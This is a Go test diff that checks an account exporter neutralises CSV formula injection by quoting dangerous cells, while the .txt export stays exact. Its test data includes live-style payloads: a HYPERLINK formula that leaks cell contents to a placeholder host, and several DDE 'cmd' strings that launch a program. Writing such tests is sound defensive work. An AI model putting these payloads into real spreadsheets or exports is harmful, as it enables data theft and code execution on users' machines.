@@ -59,3 +59,59 @@ func TestExportTXTLineBreaks(t *testing.T) {
 		t.Fatalf("txt = %q, want %q", got, want)
 	}
 }
+
+// TestExportCSVNeutralisesFormulas: a supplier-delivered account that a spreadsheet would run as a
+// formula (CSV injection) is written with a leading single quote in the .csv; ordinary accounts
+// and the .txt export are unchanged.
+func TestExportCSVNeutralisesFormulas(t *testing.T) {
+	dangerous := []string{
+		`=HYPERLINK("http://x/?"&A2)`,
+		`=cmd|' /C calc'!A0`,
+		"+1+cmd|' /C calc'!A0",
+		"-2+3+cmd|' /C calc'!A0",
+		"@SUM(1+9)*cmd|' /C calc'!A0",
+		"\t=1+1",
+		"\r=1+1",
+		"=",
+		"-",
+	}
+	safe := []string{"user:pass", "mail@x.test:p=w:+1", "a-b:c@d", "'quoted:pw", "token", " =spaced"}
+	accounts := append(append([]string{}, dangerous...), safe...)
+
+	recs, err := csv.NewReader(bytes.NewReader(ExportCSV(7, accounts))).ReadAll()
+	if err != nil || len(recs) != len(accounts)+1 {
+		t.Fatalf("csv reads back as %d records, %v", len(recs), err)
+	}
+	for i, a := range dangerous {
+		if got, want := recs[i+1][1], "'"+a; got != want {
+			t.Errorf("dangerous %q exported as %q, want %q", a, got, want)
+		}
+	}
+	for i, a := range safe {
+		if got := recs[len(dangerous)+i+1][1]; got != a {
+			t.Errorf("safe %q exported as %q, want it unchanged", a, got)
+		}
+	}
+	for _, r := range recs[1:] {
+		if c := r[1]; c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+			t.Errorf("cell %q still begins with a formula trigger", c)
+		}
+	}
+	if got, want := string(ExportCSV(7, []string{"user:pass"})), "order,account\n7,user:pass\n"; got != want {
+		t.Errorf("csv = %q, want %q", got, want)
+	}
+
+	// The .txt export stays exact (apart from its documented line-break rule).
+	txt := strings.Split(strings.TrimSuffix(string(ExportTXT(accounts)), "\n"), "\n")
+	if len(txt) != len(accounts) {
+		t.Fatalf("txt has %d lines for %d accounts", len(txt), len(accounts))
+	}
+	for i, a := range accounts {
+		if want := oneLine(a); txt[i] != want {
+			t.Errorf("txt line %d = %q, want %q", i, txt[i], want)
+		}
+	}
+	if got := string(ExportTXT([]string{`=cmd|' /C calc'!A0`, "user:pass"})); got != "=cmd|' /C calc'!A0\nuser:pass\n" {
+		t.Errorf("txt = %q", got)
+	}
+}
